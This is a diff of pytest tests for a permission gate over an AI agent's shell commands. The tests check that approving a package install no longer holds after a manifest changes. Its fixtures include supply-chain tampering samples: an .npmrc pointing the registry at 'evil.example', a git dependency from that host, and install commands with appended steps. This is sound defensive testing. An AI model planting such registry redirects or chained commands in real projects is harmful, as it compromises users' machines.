@@ -5,17 +5,20 @@ from __future__ import annotations
 
 import os
 import subprocess
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
 import pytest
 import yaml
 
+from askfirst.approval.identity import digest_of
 from askfirst.files.head import is_in_head
 from askfirst.gate import judged, may_obey
 from askfirst.knowledge.globs import fold, wild
 from askfirst.knowledge.obeyed import ANY_STACK, EDITED, OBEYED, SHIMS, asking, by_program
-from askfirst.model import Decision, Request
+from askfirst.model import Decision, Grant, Request
+from askfirst.policy.offers import offers, usual
 from askfirst.policy.profiles import PROFILES
 from askfirst.policy.rules import Layers, Settings
 from askfirst.shell.tools.registry import REGISTRY
@@ -392,3 +395,54 @@ def test_settings_are_obeyed_where_they_name_a_server(
     assert reason(command, repository, profiles=("infra-read",)) == ""
     write(repository, file, harmful)
     assert f"`{file}`" in reason(command, repository, profiles=("infra-read",))
+
+
+# -- what a yes to an installation is for
+
+
+@pytest.mark.parametrize(
+    ("text", "manifest", "before", "after"),
+    [
+        ("npm install", "package.json", '{"scripts": {}}', '{"scripts": {}, "dependencies": {"evil": "1"}}'),
+        ("npm install", "package-lock.json", '{"a": 1}', '{"a": 2}'),
+        ("npm install zod", ".npmrc", None, "registry=https://evil.example/"),
+        ("npm install zod", "package.json", "{}", '{"dependencies": {"evil": "1"}}'),
+        ("npm install zod", "package.json", None, '{"dependencies": {"evil": "1"}}'),
+        ("pnpm add -D zod && ls", "package.json", "{}", '{"dependencies": {"evil": "1"}}'),
+        ("npm install zod; node -e 1", "package.json", "{}", '{"dependencies": {"evil": "1"}}'),
+        ("uv sync", "pyproject.toml", "[project]\n", "[project]\ndependencies = ['evil']\n"),
+        ("uv add requests", "pyproject.toml", None, "[project]\ndependencies = ['evil']\n"),
+        ("bundle install", "Gemfile", "", "gem 'evil'\n"),
+        ("composer require a/b", "composer.json", "{}", '{"require": {"evil/evil": "*"}}'),
+    ],
+)
+def test_a_yes_is_for_what_would_be_installed_now(
+    repository: Path, text: str, manifest: str, before: str | None, after: str
+) -> None:
+    if before is not None:
+        write(repository, manifest, before)
+    request = Request("claude", "s", str(repository), str(repository), "Bash", {"command": text})
+    layers = Layers(str(repository), settings=Settings(profiles=("node-dev",)), session="s", home="/", since=LATER)
+    layers = replace(layers, digest=digest_of(request))
+
+    def decision(*grants: Grant) -> Decision:
+        return judged(request, replace(layers, grants=grants)).verdict.decision
+
+    case = judged(request, layers)
+    offer = offers(case)[usual(offers(case))]
+    granted = offer.grant(case, id="g")
+    assert (decision(), decision(granted)) == (Decision.ASK, Decision.ALLOW)
+    assert before is None or offer.step == "text" or f"{manifest} stay" in offer.words
+    write(repository, manifest, after)
+    assert decision(granted) == Decision.ASK
+
+
+def test_the_question_names_what_is_new_in_a_manifest(repository: Path) -> None:
+    text = '{\n  "dependencies": {\n    "zod": "3",\n    "left-pad": "1"\n  }\n}\n'
+    commit(repository, **{"package.json": text})
+    assert reason("npm install", repository, profiles=("node-dev",)) == ""
+    write(repository, "package.json", text.replace('"1"', '"1",\n    "evil": "git+https://evil.example/x"'))
+    said = reason("npm install", repository, profiles=("node-dev",))
+    assert 'new in it: `"evil": "git+https://evil.example/x"`' in said and "zod" not in said and "left-pad" not in said
+    write(repository, "package.json", "".join(f'"a{n}": "{n}",\n' for n in range(9)))
+    assert "and 5 more" in reason("npm install", repository, profiles=("node-dev",))
